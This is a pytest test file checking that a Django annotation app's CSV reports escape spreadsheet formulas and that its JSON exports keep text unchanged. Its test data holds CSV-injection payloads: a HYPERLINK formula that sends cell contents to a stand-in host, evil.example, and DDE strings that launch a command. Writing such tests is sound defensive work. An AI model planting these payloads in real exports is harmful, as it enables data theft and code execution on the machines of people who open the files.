"""Every CSV the app writes is formula-safe; JSON exports keep the text as it is."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command

from annotation.corpus.models import Label, Role
from annotation.reports import renderers
from annotation.reports import tables as reports
from annotation.reports.correspondence import (
    correspondence_rows,
    render_correspondence,
)
from annotation.review.services import decision_save, review_save
from generation.models import Candidate
from pseudoweb.csv_safe import csv_text, safe_cell
from tests.annotation.review_helpers import document_with_spans, run_with_candidates
from tests.factories import MembershipFactory, ProjectFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_a_formula_is_quoted(value):
    assert safe_cell(value) == "'" + value
    parsed = next(csv.reader(io.StringIO(csv_text([[value]]))))
    assert parsed == ["'" + value]


@pytest.mark.parametrize(
    "value", [-3, -0.25, 12, "-3", "-0.2500", "+1.5", "-1.2e-05", "plain", "a=b", ""]
)
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert safe_cell(value) == (value if not isinstance(value, str) else value)


@pytest.mark.parametrize("value", ["-3+1", "-1)*cmd|x", "+-1", "- 3", "--1"])
def test_text_that_only_looks_numeric_at_first_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.fixture
def hostile_project():
    """Labels, document ids, run names and pseudonyms typed as formulas."""
    project = ProjectFactory(name="Hostile")
    lead = MembershipFactory(project=project, role=Role.LEAD).user
    document = document_with_spans(project=project, spans=2, external_id="=1+2")
    Label.objects.filter(project=project).update(name="@label")
    run = run_with_candidates(
        project=project, documents=[document], name="=cmd|' /C calc'!A0"
    )
    candidate = Candidate.objects.filter(run=run).order_by("span__start").first()
    Candidate.objects.filter(pk=candidate.pk).update(text="+evil()")
    candidate.refresh_from_db()
    review_save(candidate=candidate, reviewer=lead, tag="POS")
    decision_save(span=candidate.span, reviewer=lead, kind="own", text="=HYPERLINK(1)")
    return project, lead, run


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula(text: str) -> None:
    for cell in _cells(text):
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            float(cell)  # only a plain number may start so


def test_report_csvs_are_formula_safe_and_json_is_untouched(hostile_project):
    project, _, run = hostile_project
    for kind in reports.KINDS:
        data = reports.report_data(project=project, kind=kind)
        _no_formula(renderers.render(kind, data, "csv"))
    errors = reports.report_data(project=project, kind="errors")
    text = renderers.render("errors", errors, "csv")
    assert "'=cmd|' /C calc'!A0" in _cells(text)
    assert (
        json.loads(renderers.render("errors", errors, "json"))["runs"][0]["label"]
        == run.name
    )


def test_metrics_csv_keeps_negative_numbers_numeric():
    data = {
        "originals": {"similarity_word": -0.5},
        "runs": [{"run": 3, "label": "-run", "similarity_word": -0.25}],
    }
    rows = list(csv.reader(io.StringIO(renderers.metrics_csv(data))))
    column = rows[0].index("sim. word")
    assert rows[1][column] == "-0.5000"
    assert rows[2][column] == "-0.2500"
    assert rows[2][1] == "'-run"


def test_correspondence_csv_is_formula_safe_and_json_is_untouched(hostile_project):
    project, lead, _ = hostile_project
    text = render_correspondence(correspondence_rows(project=project), "csv")
    _no_formula(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {row["pseudonym"] for row in rows} == {"'=HYPERLINK(1)"}
    assert {row["document"] for row in rows} == {"'=1+2"}
    payload = json.loads(
        render_correspondence(correspondence_rows(project=project), "json")
    )
    assert {row["pseudonym"] for row in payload} == {"=HYPERLINK(1)"}


def test_report_command_writes_safe_csv(hostile_project, tmp_path):
    project, _, _ = hostile_project
    out = tmp_path / "errors.csv"
    call_command(
        "report",
        "--project",
        project.name,
        "--kind",
        "errors",
        "--format",
        "csv",
        "--out",
        str(out),
    )
    _no_formula(out.read_text())


def test_a_carriage_return_inside_a_cell_survives_the_round_trip():
    text = csv_text([["a\rb", -1, "ok"], ["plain", 2, "x"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["a\rb", "-1", "ok"],
        ["plain", "2", "x"],
    ]
